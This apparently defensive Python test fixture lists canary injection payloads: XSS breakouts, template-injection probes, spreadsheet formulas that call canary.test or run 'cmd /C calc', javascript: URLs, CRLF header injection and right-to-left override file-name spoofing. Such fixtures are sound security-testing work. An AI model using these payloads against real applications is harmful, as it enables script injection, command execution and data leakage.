"""Texts that do harm where they are taken for markup, a formula, an address, a template or a header."""

# What an element of the markup has, wherever a page, a mail or a document takes it for markup.
MARKER = "data-canary"
# Where a page calls that takes a text for an address.
OUTSIDE_HOST = "canary.test"
# What a template makes of the product in the texts; they have its factors alone.
PRODUCT = "canary1337canary"
# A header that a mail has if a text begins a new line of it.
HEADER = "X-Canary"

_ELEMENT = f"<img {MARKER} src=//{OUTSIDE_HOST}/a onerror=hit()>"
MARKUP = (
    # Out of an attribute, and in an element's text; with an Arabic word between, so that it is set from right to left.
    f"\"'>{_ELEMENT}<svg {MARKER} onload=hit()>مرحبا canary{{{{7*191}}}}canary",
    # Out of a script, a style, a comment and a text area.
    f"-->]]></textarea></title></style></script><script {MARKER}>hit()</script>${{7*191}}",
)
FORMULAS = (
    f'=HYPERLINK("http://{OUTSIDE_HOST}/"&A1,"canary")',
    f'\uff1dWEBSERVICE("http://{OUTSIDE_HOST}")',
    "+1+cmd|' /C calc'!A0",
)
ADDRESSES = (
    "javascript:hit()//",
    "java\tscript:hit()",
    f"data:text/html,<script {MARKER}>parent.hit()</script>",
    f"//{OUTSIDE_HOST}/a",
)
CONTROLS = (
    f"canary\u202egnp.exe\u2066{_ELEMENT}\u200b\ufeff",
    f"canary\r\n{HEADER}: 1\r\n\r\n{_ELEMENT}",
)
# The texts of one item each: of every kind, the shorter ones for fields that have room for few letters.
SETS = (
    (MARKUP[0], f"'\">{_ELEMENT[:-1]}", f'"><b {MARKER}>', "<b>"),
    (FORMULAS[0], FORMULAS[2], "=1+1", "=1"),
    (ADDRESSES[0], "javascript:hit()", "@a"),
    (CONTROLS[1], f"a\r\n{HEADER}:1", "\u202ecanary", "a\nb"),
    (MARKUP[1], FORMULAS[1], "<i>"),
    (ADDRESSES[2], ADDRESSES[1], CONTROLS[0], "-1+1"),
)
ALL = frozenset(text for texts in SETS for text in texts)
